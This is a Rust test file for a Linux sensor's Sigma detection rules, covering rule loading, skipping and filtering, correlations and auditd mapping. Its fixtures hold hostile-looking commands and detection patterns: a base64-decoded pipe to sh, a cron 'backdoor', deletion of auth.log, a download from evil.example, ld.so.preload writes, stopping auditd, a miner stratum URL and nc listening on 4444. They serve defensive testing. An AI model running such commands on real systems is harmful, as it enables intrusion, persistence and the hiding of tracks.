use std::path::{Path, PathBuf};

use sensor_testkit::events;

use super::{
    loader::{SHIPPED, techniques},
    *,
};

const BASE64: &str = "41a539bc-60f4-44b3-b68b-437946c8d298";
const WEBSERVER_RECON: &str = "bede07bb-527f-403b-9dd1-e0608032aacb";
const CHATTR: &str = "dd4b327a-1aac-4852-ad5c-a179c0d445d8";
const CRON: &str = "4abb7633-482e-49cf-abbd-ce7ee1597217";
const LOG_DELETION: &str = "a64f783c-ab38-45ea-9ab0-4dc5fae7122e";
const SHELL_PORT: &str = "96fa240b-8d2e-44fa-8eba-ac2fc5b37dd6";

fn shipped() -> SigmaRules {
    let (rules, skipped) = SigmaRules::load(&[], &SigmaFilter::default()).unwrap();
    assert!(skipped.is_empty(), "{skipped:?}");
    rules
}

// The shared builders, with the process every test here uses: a web server's worker.
fn process(exe: &str, args: &[&str]) -> proto::Process {
    events::service_process(exe, args)
}

fn exec(exe: &str, args: &[&str]) -> proto::Event {
    events::exec(&process(exe, args))
}

fn file(kind: &str, exe: &str, path: &str, new_path: &str) -> proto::Event {
    events::file(kind, &process(exe, &[]), path, new_path)
}

fn connect(kind: &str, exe: &str, local_port: u32, remote_port: u32) -> proto::Event {
    events::connect(kind, &process(exe, &[]), local_port, remote_port)
}

fn ids(rules: &SigmaRules, e: &proto::Event) -> Vec<String> {
    rules.evaluate(e).into_iter().map(|m| m.id).collect()
}

#[test]
fn shipped_rules_all_load() {
    assert_eq!(shipped().len(), 6);
}

#[test]
fn the_readme_lists_every_shipped_rule_with_its_techniques_and_level() {
    for (_, m) in shipped().catalog() {
        let row = crate::detect::readme_row(&m.id);
        assert_eq!(row[3].split(", ").collect::<Vec<_>>(), m.mitre, "{}", m.id);
        assert_eq!(row[4], m.level, "{}", m.id);
    }
}

#[test]
fn shipped_list_matches_the_directory() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/sigma");
    let mut on_disk: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    on_disk.sort();
    let mut listed: Vec<&str> = SHIPPED.iter().map(|(n, _)| *n).collect();
    listed.sort();
    assert_eq!(on_disk, listed);
}

#[test]
fn base64_piped_to_shell() {
    let rules = shipped();
    let e = exec(
        "/usr/bin/bash",
        &["bash", "-c", "echo aGk= | base64 -d | sh"],
    );
    let m = rules.evaluate(&e);
    assert_eq!(
        m,
        vec![SigmaMatch {
            id: BASE64.into(),
            title: "Base64 Decoded Payload Piped to a Shell".into(),
            description: m[0].description.clone(),
            level: "high".into(),
            mitre: vec!["T1059.004".into(), "T1140".into(), "T1027".into()],
        }]
    );
    assert!(m[0].description.starts_with("Detects a command line"));

    for benign in [
        "base64 -d file.txt > out",
        "base64 -d file.txt | shuf",
        "echo aGk= | base64 | sh",
    ] {
        let e = exec("/usr/bin/bash", &["bash", "-c", benign]);
        assert!(rules.evaluate(&e).is_empty(), "{benign}");
    }
    // Same text on a kind with no category.
    let mut e = exec(
        "/usr/bin/bash",
        &["bash", "-c", "echo aGk= | base64 -d | sh"],
    );
    e.kind = "process_fork".into();
    assert!(rules.evaluate(&e).is_empty());
}

#[test]
fn process_creation_fields() {
    let rules = shipped();
    let mut e = exec("/usr/bin/whoami", &["whoami"]);
    assert!(ids(&rules, &e).is_empty(), "bash parent");
    e.process.as_mut().unwrap().parent_exe = "/usr/sbin/php-fpm".into();
    assert_eq!(ids(&rules, &e), vec![WEBSERVER_RECON]);
    // Without an enriched exe, the path given to execve stands in.
    e.process.as_mut().unwrap().exe.clear();
    assert_eq!(ids(&rules, &e), vec![WEBSERVER_RECON]);

    let e = exec("/usr/bin/chattr", &["chattr", "+i", "/etc/passwd"]);
    assert_eq!(ids(&rules, &e), vec![CHATTR]);
    let e = exec("/usr/bin/chattr", &["chattr", "+i", "/home/u/notes.txt"]);
    assert!(ids(&rules, &e).is_empty());
    let e = exec("/usr/bin/chattr", &["chattr", "-i", "/etc/passwd"]);
    assert!(ids(&rules, &e).is_empty());
}

#[test]
fn file_event_and_delete_and_rename() {
    let rules = shipped();
    for kind in ["file_create", "file_write"] {
        let e = file(kind, "/usr/bin/cp", "/etc/cron.d/backdoor", "");
        assert_eq!(ids(&rules, &e), vec![CRON], "{kind}");
    }
    let e = file("file_write", "/usr/bin/dpkg", "/etc/cron.d/sysstat", "");
    assert!(ids(&rules, &e).is_empty(), "package manager filtered");
    let e = file("file_write", "/usr/bin/cp", "/etc/cron.daily.txt", "");
    assert!(ids(&rules, &e).is_empty());
    // A deletion under a cron directory is not a file_event.
    let e = file("file_unlink", "/usr/bin/rm", "/etc/cron.d/backdoor", "");
    assert!(ids(&rules, &e).is_empty());

    let e = file("file_unlink", "/usr/bin/rm", "/var/log/auth.log", "");
    assert_eq!(ids(&rules, &e), vec![LOG_DELETION]);
    let e = file(
        "file_unlink",
        "/usr/sbin/logrotate",
        "/var/log/auth.log.4.gz",
        "",
    );
    assert!(ids(&rules, &e).is_empty());
    let e = file("file_create", "/usr/bin/rm", "/var/log/auth.log", "");
    assert!(ids(&rules, &e).is_empty());
}

#[test]
fn file_rename_maps_source_and_target() {
    let dir = TempDir::new("rename");
    std::fs::write(
        dir.0.join("r.yml"),
        rule_yaml(
            "0b03522b-f7fa-45ee-9f78-b18b5d020c42",
            "linux",
            "file_rename",
            "SourceFilename|startswith: '/tmp/'\n        TargetFilename|startswith: '/usr/bin/'",
        ),
    )
    .unwrap();
    let (rules, skipped) = SigmaRules::load(&[&dir.0], &SigmaFilter::everything()).unwrap();
    assert!(skipped.is_empty(), "{skipped:?}");
    assert_eq!(rules.len(), 7);
    let e = file("file_rename", "/usr/bin/mv", "/tmp/x", "/usr/bin/ls");
    assert_eq!(
        ids(&rules, &e),
        vec!["0b03522b-f7fa-45ee-9f78-b18b5d020c42"]
    );
    let e = file("file_rename", "/usr/bin/mv", "/usr/bin/ls", "/tmp/x");
    assert!(ids(&rules, &e).is_empty());
}

#[test]
fn network_connection() {
    let rules = shipped();
    let e = connect("net_connect", "/usr/bin/bash", 40000, 4444);
    assert_eq!(ids(&rules, &e), vec![SHELL_PORT]);
    let e = connect("net_connect", "/usr/bin/bash", 40000, 443);
    assert!(ids(&rules, &e).is_empty());
    let e = connect("net_connect", "/usr/bin/curl", 40000, 4444);
    assert!(ids(&rules, &e).is_empty());
    // A shell accepting on 4444 did not initiate anything.
    let e = connect("net_accept", "/usr/bin/bash", 4444, 40000);
    assert!(ids(&rules, &e).is_empty());
}

#[test]
fn inbound_connections_follow_sysmon_direction() {
    let dir = TempDir::new("inbound");
    std::fs::write(
        dir.0.join("r.yml"),
        rule_yaml(
            "ce7a004c-054b-4f3b-8e36-28cb12a34fe3",
            "linux",
            "network_connection",
            "Initiated: 'false'\n        DestinationPort: 22\n        SourceIp|cidr: '203.0.113.0/24'\n        DestinationIp: '10.0.0.2'",
        ),
    )
    .unwrap();
    let (rules, _) = SigmaRules::load(&[&dir.0], &SigmaFilter::everything()).unwrap();
    let id = "ce7a004c-054b-4f3b-8e36-28cb12a34fe3";
    let e = connect("net_accept", "/usr/sbin/sshd", 22, 51000);
    assert_eq!(ids(&rules, &e), vec![id]);
    let e = connect("net_connect", "/usr/bin/ssh", 51000, 22);
    assert!(ids(&rules, &e).is_empty());
}

#[test]
fn fifo_device_symlink_and_huge_files_are_skipped_not_read() {
    let dir = TempDir::new("special");
    let fifo = dir.0.join("fifo.yml");
    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    // SAFETY: a valid C string.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    std::os::unix::fs::symlink("/dev/zero", dir.0.join("zero.yml")).unwrap();
    let big = std::fs::File::create(dir.0.join("big.yml")).unwrap();
    big.set_len(MAX_RULE_FILE_BYTES + 1).unwrap();
    let (rules, skipped) = SigmaRules::load(&[&dir.0], &SigmaFilter::everything()).unwrap();
    assert_eq!(rules.len(), shipped().len(), "{skipped:?}");
    assert_eq!(skipped.len(), 3, "{skipped:?}");
    assert!(
        skipped.iter().any(|s| s.contains("fifo.yml: a FIFO")),
        "{skipped:?}"
    );
    assert!(
        skipped
            .iter()
            .any(|s| s.contains("zero.yml: a symbolic link")),
        "{skipped:?}"
    );
    assert!(
        skipped
            .iter()
            .any(|s| s.contains("big.yml") && s.contains("limit")),
        "{skipped:?}"
    );
}

#[test]
fn bad_rules_are_skipped_and_good_ones_load() {
    let dir = TempDir::new("skip");
    let good = "0b03522b-f7fa-45ee-9f78-b18b5d020c42";
    std::fs::write(
        dir.0.join("good.yml"),
        rule_yaml(
            good,
            "linux",
            "process_creation",
            "CommandLine|contains: 'zzmarker'",
        ),
    )
    .unwrap();
    std::fs::write(dir.0.join("broken.yml"), "title: [unclosed\ndetection: {\n").unwrap();
    std::fs::write(
        dir.0.join("windows.yml"),
        rule_yaml(
            "ce7a004c-054b-4f3b-8e36-28cb12a34fe3",
            "windows",
            "process_creation",
            "Image|endswith: '\\whoami.exe'",
        ),
    )
    .unwrap();
    std::fs::create_dir(dir.0.join("sub")).unwrap();
    std::fs::write(
        dir.0.join("sub/journald.yaml"),
        "title: Journald rule\nid: 5b2f4a43-3d49-4f35-a2c5-6c1c5b0e5a11\nlogsource:\n    product: linux\n    service: journald\ndetection:\n    selection:\n        type: EXECVE\n    condition: selection\n",
    )
    .unwrap();
    std::fs::write(
        dir.0.join("sub/dup.yml"),
        rule_yaml(
            BASE64,
            "linux",
            "process_creation",
            "CommandLine|contains: 'x'",
        ),
    )
    .unwrap();
    std::fs::write(dir.0.join("notes.txt"), "not a rule").unwrap();

    let (rules, skipped) = SigmaRules::load(&[&dir.0], &SigmaFilter::everything()).unwrap();
    assert_eq!(rules.len(), 7, "{skipped:?}");
    assert_eq!(skipped.len(), 4, "{skipped:?}");
    let reason = |file: &str| {
        skipped
            .iter()
            .find(|s| s.contains(file))
            .unwrap_or_else(|| panic!("{file} not skipped: {skipped:?}"))
    };
    assert!(reason("broken.yml").len() > "broken.yml: ".len());
    assert!(reason("windows.yml").contains("\"windows\" is not linux"));
    assert!(reason("journald.yaml").contains("service \"journald\" is not supported"));
    assert!(reason("dup.yml").contains("duplicate id"));

    let e = exec("/usr/bin/echo", &["echo", "zzmarker"]);
    assert_eq!(ids(&rules, &e), vec![good]);

    assert!(SigmaRules::load(&[&dir.0.join("missing")], &SigmaFilter::everything()).is_err());
}

#[test]
fn unusable_documents_are_skipped_one_by_one() {
    let dir = TempDir::new("docs");
    let good = "0b03522b-f7fa-45ee-9f78-b18b5d020c42";
    let docs = [
        rule_yaml(good, "linux", "process_creation", "Image|endswith: '/nmap'"),
        rule_yaml(
            "8d0e7a2c-4a60-4d8e-9e57-3d8c8c1c1a01",
            "linux",
            "process_access",
            "Image|endswith: '/gdb'",
        ),
        rule_yaml(
            "8d0e7a2c-4a60-4d8e-9e57-3d8c8c1c1a02",
            "linux",
            "process_creation",
            "CommandLine|nosuchmodifier: 'x'",
        ),
        rule_yaml(
            "8d0e7a2c-4a60-4d8e-9e57-3d8c8c1c1a03",
            "linux",
            "process_creation",
            "Image|endswith: '/x'",
        )
        .replace("status: test", "status: deprecated"),
        "title: No id\nlogsource:\n    category: process_creation\ndetection:\n    selection:\n        Image: /x\n    condition: selection\n".to_string(),
        "title: Many scans\nid: 8d0e7a2c-4a60-4d8e-9e57-3d8c8c1c1a04\ncorrelation:\n    type: event_count\n    rules:\n        - 8d0e7a2c-4a60-4d8e-9e57-3d8c8c1c1a01\n    group-by:\n        - User\n    timespan: 1m\n    condition:\n        gte: 10\nlevel: high\n"
            .to_string(),
    ];
    std::fs::write(dir.0.join("many.yml"), docs.join("---\n")).unwrap();
    std::fs::write(dir.0.join("empty.yml"), "").unwrap();

    let (rules, skipped) = SigmaRules::load(&[&dir.0], &SigmaFilter::everything()).unwrap();
    assert_eq!(rules.len(), 7, "{skipped:?}");
    let expect = [
        "empty.yml: ",
        "category \"process_access\" is not supported",
        "nosuchmodifier",
        "status deprecated",
        "\"No id\": no id",
        "\"Many scans\": names rule \"8d0e7a2c-4a60-4d8e-9e57-3d8c8c1c1a01\", which is not loaded",
    ];
    assert_eq!(skipped.len(), expect.len(), "{skipped:?}");
    for e in expect {
        assert!(skipped.iter().any(|s| s.contains(e)), "{e}: {skipped:?}");
    }
    let e = exec("/usr/bin/nmap", &["nmap", "10.0.0.0/24"]);
    assert_eq!(ids(&rules, &e), vec![good]);
}

#[test]
fn techniques_from_tags() {
    let tags = [
        "attack.execution",
        "attack.t1059.004",
        "attack.T1027",
        "attack.g0032",
        "attack.t1059.004",
        "attack.t12",
        "car.2013-05-004",
    ]
    .map(String::from);
    assert_eq!(techniques(&tags), vec!["T1059.004", "T1027"]);
}

fn rule_yaml(id: &str, product: &str, category: &str, selection: &str) -> String {
    format!(
        "title: Test rule {id}\nid: {id}\nstatus: test\nlogsource:\n    product: {product}\n    category: {category}\ndetection:\n    selection:\n        {selection}\n    condition: selection\nlevel: low\n"
    )
}

struct TempDir(PathBuf);

impl TempDir {
    fn new(tag: &str) -> Self {
        let p = std::env::temp_dir().join(format!("sensor-sigma-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&p);
        std::fs::create_dir_all(&p).unwrap();
        Self(p)
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

#[test]
fn current_directory_is_the_working_directory_at_exec() {
    let dir = TempDir::new("cwd");
    let id = "5f0b7c1e-2a58-4d0e-9b0e-6c1f3d2a7e41";
    std::fs::write(
        dir.0.join("cwd.yml"),
        rule_yaml(
            id,
            "linux",
            "process_creation",
            "CurrentDirectory|startswith: '/dev/shm'",
        ),
    )
    .unwrap();
    let (rules, skipped) = SigmaRules::load(&[&dir.0], &SigmaFilter::everything()).unwrap();
    assert!(skipped.is_empty(), "{skipped:?}");
    let mut e = exec("/usr/bin/id", &["id"]);
    assert!(!ids(&rules, &e).contains(&id.to_string()), "no cwd known");
    e.exec.as_mut().unwrap().cwd = "/dev/shm/x".into();
    assert!(ids(&rules, &e).contains(&id.to_string()));
    e.exec.as_mut().unwrap().cwd = "/home/u".into();
    assert!(!ids(&rules, &e).contains(&id.to_string()));
}

#[test]
fn the_filter_loads_by_level_and_status_and_counts_the_rest() {
    let dir = TempDir::new("filter");
    let rule = |name: &str, id: &str, status: Option<&str>, level: Option<&str>| {
        let mut text = rule_yaml(id, "linux", "process_creation", "Image|endswith: '/x'")
            .replace("status: test\n", "")
            .replace("level: low\n", "");
        if let Some(s) = status {
            text.push_str(&format!("status: {s}\n"));
        }
        if let Some(l) = level {
            text.push_str(&format!("level: {l}\n"));
        }
        std::fs::write(dir.0.join(name), text).unwrap();
    };
    rule(
        "a.yml",
        "a0000000-0000-4000-8000-000000000001",
        Some("stable"),
        Some("high"),
    );
    rule(
        "b.yml",
        "a0000000-0000-4000-8000-000000000002",
        Some("test"),
        Some("low"),
    );
    rule(
        "c.yml",
        "a0000000-0000-4000-8000-000000000003",
        Some("experimental"),
        Some("critical"),
    );
    // No status and no level: the operator's own, reported as medium.
    rule("d.yml", "a0000000-0000-4000-8000-000000000004", None, None);
    rule(
        "e.yml",
        "a0000000-0000-4000-8000-000000000005",
        Some("test"),
        Some("informational"),
    );
    // Unusable whatever the filter: reported, not counted as filtered.
    rule(
        "f.yml",
        "a0000000-0000-4000-8000-000000000006",
        Some("deprecated"),
        Some("high"),
    );

    let (rules, skipped) = SigmaRules::load(&[&dir.0], &SigmaFilter::default()).unwrap();
    let e = exec("/usr/bin/x", &["x"]);
    let mut fired = ids(&rules, &e);
    fired.sort();
    assert_eq!(
        fired,
        [
            "a0000000-0000-4000-8000-000000000001",
            "a0000000-0000-4000-8000-000000000004"
        ]
    );
    assert_eq!(rules.filtered(), 3);
    assert_eq!(skipped.len(), 1, "{skipped:?}");
    assert!(skipped[0].contains("deprecated"));

    let low_and_experimental = SigmaFilter {
        min_level: Level::Low,
        statuses: vec![Status::Test, Status::Experimental],
    };
    let (rules, _) = SigmaRules::load(&[&dir.0], &low_and_experimental).unwrap();
    let mut fired = ids(&rules, &e);
    fired.sort();
    assert_eq!(
        fired,
        [
            "a0000000-0000-4000-8000-000000000002",
            "a0000000-0000-4000-8000-000000000003",
            "a0000000-0000-4000-8000-000000000004"
        ]
    );
    assert_eq!(
        rules.filtered(),
        2,
        "the stable one and the informational one"
    );
    let (rules, _) = SigmaRules::load(&[&dir.0], &SigmaFilter::everything()).unwrap();
    assert_eq!(rules.filtered(), 0);
    assert_eq!(rules.len(), 6 + 5);
}

#[test]
fn correlations_count_matches_and_filters_narrow_rules() {
    let dir = TempDir::new("corr");
    let curl = "c0000000-0000-4000-8000-000000000001";
    let wget = "c0000000-0000-4000-8000-000000000002";
    let burst = "c0000000-0000-4000-8000-000000000003";
    let docs = [
        rule_yaml(curl, "linux", "process_creation", "Image|endswith: '/curl'"),
        rule_yaml(wget, "linux", "process_creation", "Image|endswith: '/wget'"),
        format!(
            "title: Downloads in a burst\nid: {burst}\nstatus: test\ncorrelation:\n    type: event_count\n    rules:\n        - {curl}\n    group-by:\n        - User\n    timespan: 1m\n    condition:\n        gte: 3\nlevel: high\ntags:\n    - attack.t1105\n"
        ),
        format!(
            "title: The mirror is fine\nlogsource:\n    product: linux\n    category: process_creation\nfilter:\n    rules:\n        - {wget}\n    selection:\n        CommandLine|contains: 'mirror.example'\n    condition: not selection\n"
        ),
    ];
    std::fs::write(dir.0.join("docs.yml"), docs.join("---\n")).unwrap();
    let (rules, skipped) = SigmaRules::load(&[&dir.0], &SigmaFilter::everything()).unwrap();
    assert!(skipped.is_empty(), "{skipped:?}");

    // The counted rule raises nothing of its own (generate is false); the third match
    // within the window is the correlation's.
    let e = exec("/usr/bin/curl", &["curl", "https://x.example/a"]);
    assert!(ids(&rules, &e).is_empty());
    assert!(ids(&rules, &e).is_empty());
    let third = rules.evaluate(&e);
    assert_eq!(third.len(), 1, "{third:?}");
    assert_eq!(third[0].id, burst);
    assert_eq!(
        (third[0].level.as_str(), third[0].mitre.as_slice()),
        ("high", &["T1105".to_string()][..])
    );
    let (c, _) = rules.catalog().find(|(c, _)| c.id == burst).unwrap();
    assert_eq!(c.logsource, "correlation");

    let evil = exec("/usr/bin/wget", &["wget", "https://evil.example/x"]);
    assert_eq!(ids(&rules, &evil), vec![wget]);
    let mirror = exec("/usr/bin/wget", &["wget", "https://mirror.example/x"]);
    assert!(
        ids(&rules, &mirror).is_empty(),
        "the filter spares the mirror"
    );
}

fn auditd_rule(id: &str, detection: &str) -> String {
    format!(
        "title: Auditd rule {id}\nid: {id}\nstatus: test\nlogsource:\n    product: linux\n    service: auditd\ndetection:\n{detection}\nlevel: high\n"
    )
}

#[test]
fn auditd_rules_see_events_as_audit_records() {
    let dir = TempDir::new("auditd");
    let rules = [
        (
            "d0000000-0000-4000-8000-000000000001",
            "    selection:\n        type: EXECVE\n        a0: chattr\n        a1: '-i'\n    condition: selection",
        ),
        (
            "d0000000-0000-4000-8000-000000000002",
            "    selection:\n        type: SYSCALL\n        syscall:\n            - init_module\n            - finit_module\n    condition: selection",
        ),
        (
            "d0000000-0000-4000-8000-000000000003",
            "    selection:\n        type: PATH\n        name: /etc/ld.so.preload\n    condition: selection",
        ),
        (
            "d0000000-0000-4000-8000-000000000004",
            "    selection:\n        type: SERVICE_STOP\n        unit: auditd\n    condition: selection",
        ),
        (
            "d0000000-0000-4000-8000-000000000005",
            "    keywords:\n        - 'stratum+tcp://'\n    condition: keywords",
        ),
        (
            "d0000000-0000-4000-8000-000000000006",
            "    selection:\n        type: SYSCALL\n        key: my_audit_key\n    condition: selection",
        ),
        (
            "d0000000-0000-4000-8000-000000000007",
            "    selection:\n        type: SYSCALL\n        syscall: execve\n        exe|endswith: '/nc'\n    condition: selection",
        ),
    ];
    for (id, det) in rules {
        std::fs::write(dir.0.join(format!("{id}.yml")), auditd_rule(id, det)).unwrap();
    }
    let (rules, skipped) = SigmaRules::load(&[&dir.0], &SigmaFilter::everything()).unwrap();
    assert!(skipped.is_empty(), "{skipped:?}");
    assert_eq!(rules.len(), 6 + 7);
    let id = |n: u32| format!("d0000000-0000-4000-8000-00000000000{n}");

    assert_eq!(
        ids(
            &rules,
            &exec("/usr/bin/chattr", &["chattr", "-i", "/etc/x"])
        ),
        [id(1)]
    );
    let plus = exec("/usr/bin/chattr", &["chattr", "+i", "/etc/x"]);
    assert!(!ids(&rules, &plus).contains(&id(1)));

    let mut load = events::event("module_load", &process("/usr/sbin/insmod", &["insmod"]));
    load.module = Some(proto::ModuleInfo {
        syscall: "finit_module".into(),
        ..Default::default()
    });
    assert_eq!(ids(&rules, &load), [id(2)]);

    let preload = file("file_write", "/usr/bin/tee", "/etc/ld.so.preload", "");
    assert_eq!(ids(&rules, &preload), [id(3)]);
    let renamed = file("file_rename", "/usr/bin/mv", "/tmp/x", "/etc/ld.so.preload");
    assert_eq!(
        ids(&rules, &renamed),
        [id(3)],
        "the rename's second PATH record"
    );

    let stop = exec(
        "/usr/bin/systemctl",
        &["systemctl", "stop", "auditd.service"],
    );
    assert_eq!(ids(&rules, &stop), [id(4)]);
    let status = exec("/usr/bin/systemctl", &["systemctl", "status", "auditd"]);
    assert!(ids(&rules, &status).is_empty());

    // A keyword anywhere in a record: here an EXECVE argument; one match per event.
    let miner = exec("/tmp/x", &["x", "-o", "stratum+tcp://pool:3333"]);
    assert_eq!(ids(&rules, &miner), [id(5)]);

    assert_eq!(
        ids(&rules, &exec("/usr/bin/nc", &["nc", "-l", "4444"])),
        [id(7)]
    );
}
